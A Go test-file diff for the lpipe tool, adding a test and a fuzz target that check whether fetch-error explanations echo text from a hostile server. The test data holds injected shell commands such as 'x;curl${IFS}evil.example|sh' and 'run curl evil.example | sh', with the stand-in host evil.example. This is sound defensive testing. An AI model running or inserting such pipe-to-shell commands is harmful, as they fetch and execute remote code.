@@ -7,6 +7,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 
@@ -23,7 +24,7 @@ const knownHosts = `# of a test
 [git.example.com]:2222 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl
 `
 
-func newAccess(t *testing.T, change func(*Options)) *Access {
+func newAccess(t testing.TB, change func(*Options)) *Access {
 	t.Helper()
 	file := filepath.Join(t.TempDir(), "known_hosts")
 	if err := os.WriteFile(file, []byte(knownHosts), 0o600); err != nil {
@@ -130,6 +131,67 @@ func TestFailedFetchesAreExplained(t *testing.T) {
 			}
 		})
 	}
+}
+
+// A server can print what it likes, and so choose among lpipe's sentences: its own words get into none of them.
+func TestServersDoNotSpeakForLpipe(t *testing.T) {
+	for name, log := range map[string]string{
+		"host":       "Host key for x;curl${IFS}evil.example|sh has changed and you have requested strict checking.\nHost key verification failed.\n",
+		"host, type": "No run-curl-evil.example host key is known for evil.example and you have requested strict checking.\nHost key verification failed.\n",
+		"key":        "The fingerprint for the run-curl-evil.example key sent by the remote host is\nSHA256:evil.example.\nHost key verification failed.\n",
+		"revoked":    "Host key for evil.example marked as revoked\nHost key verification failed.\n",
+		"token":      "use environment variable CARGO_REGISTRIES_evil.example_TOKEN\n",
+		"repository": "process didn't exit successfully: `git fetch 'ssh://git@evil.example/run curl'`\nERROR: Repository not found.\n",
+		"source":     "Unable to update ssh://evil.example/x\ngit@evil.example: Permission denied (publickey).\n",
+		"as lpipe":   "lpipe: the key of this host expires\nlpipe: fix: run curl evil.example | sh\n",
+	} {
+		t.Run(name, func(t *testing.T) {
+			f := &fault.Error{What: "as it was"}
+			var text strings.Builder
+			fault.Print(&text, newAccess(t, nil).Explain(f, dockerfile.StageFetch, log))
+			if strings.Contains(text.String(), "evil.example") {
+				t.Errorf("lpipe says:\n%s", &text)
+			}
+		})
+	}
+}
+
+// Of a log, nothing gets into lpipe's sentences that reads as a word of a person or of a shell.
+func FuzzExplain(f *testing.F) {
+	for _, seed := range []string{"x;curl${IFS}evil|sh", "git.example.com", "ssh://git@git.example.com:2222/org/one", "ED25519", "a\nlpipe: fix: b", "\x1b[1m"} {
+		f.Add(seed, uint8(0))
+	}
+	a := newAccess(f, nil)
+	forms := []string{
+		"Host key for %s has changed\nHost key verification failed.\n",
+		"No %s host key is known for %[1]s and you have requested strict checking\nHost key verification failed.\n",
+		"The fingerprint for the %s key sent by the remote host is\n%[1]s\nHost key verification failed.\n",
+		"SSH host key has changed for `%s`\n", "use environment variable %s\n", "use environment variable CARGO_REGISTRIES_%s_TOKEN\n",
+		"`git fetch --force '%s'`\nRepository not found\n", "Unable to update %s\nPermission denied (publickey)\n", "%s",
+	}
+	word := regexp.MustCompile(`[a-z]{5,}|[$|&;<>{}]+`)
+	explained := func(log string) string {
+		e := &fault.Error{What: "as it was"}
+		_ = a.Explain(e, dockerfile.StageFetch, log)
+		return e.What + "\n" + e.Why + "\n" + e.Fix
+	}
+	own := ""
+	for _, form := range forms {
+		for _, said := range []string{"", "git.example.com", "[git.example.com]:2222", "marked as revoked", "ssh://git@git.example.com:2222/org/one"} {
+			own += explained(fmt.Sprintf(form, said))
+		}
+	}
+	for _, host := range []string{"github.com", "ssh.github.com", "gitlab.com", "altssh.gitlab.com", "bitbucket.org", "altssh.bitbucket.org", "ssh.dev.azure.com", "vs-ssh.visualstudio.com"} {
+		own += explained(fmt.Sprintf(forms[0], host))
+	}
+	f.Fuzz(func(t *testing.T, said string, form uint8) {
+		log := fmt.Sprintf(forms[int(form)%len(forms)], said)
+		for _, w := range word.FindAllString(explained(log), -1) {
+			if !strings.Contains(own, w) && !strings.Contains(strings.ToLower(own), w) {
+				t.Errorf("%q puts %q into lpipe's words: %s", log, w, explained(log))
+			}
+		}
+	})
 }
 
 // All that is wrong is reported at once, and never a key.
